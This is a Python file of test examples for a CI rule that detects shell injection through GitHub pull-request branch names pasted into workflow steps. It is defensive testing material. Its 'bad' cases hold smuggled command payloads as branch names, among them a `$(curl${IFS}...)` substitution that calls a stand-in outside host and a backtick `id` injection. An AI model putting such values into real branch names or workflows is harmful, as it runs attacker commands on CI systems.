"""Examples of the rule `ref-name-injection`."""

from __future__ import annotations

from rules.change import Change
from tests.rules.kit import CI, CI_PATH, Bad, edit

PASTES = {CI_PATH: CI.replace("make test", "echo ${{ github.head_ref }}")}
BAD: dict[str, Bad] = {
    "a substitution": Bad(
        edit("src/a.py", "a\n", "b\n", kept=PASTES, head_ref="fix-$(curl${IFS}x.example.net)"), None, None
    ),
    "syntax that nothing pastes": Bad(edit("src/a.py", "a\n", "b\n", head_ref="a`id`"), None, None),
}
GOOD: dict[str, Change] = {
    "an ordinary name": edit("src/a.py", "a\n", "b\n", kept=PASTES, head_ref="feat/a-b_c#12.3+x@y")
}
